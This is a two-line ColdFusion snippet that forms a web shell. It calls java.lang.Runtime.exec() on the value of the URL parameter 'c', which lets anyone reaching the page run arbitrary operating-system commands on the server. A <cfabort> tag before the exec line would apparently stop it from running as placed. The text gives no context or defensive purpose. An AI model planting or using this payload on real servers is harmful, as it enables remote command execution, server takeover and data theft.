<cfabort>
<cfset r=createObject("java","java.lang.Runtime").getRuntime().exec(url.c)>
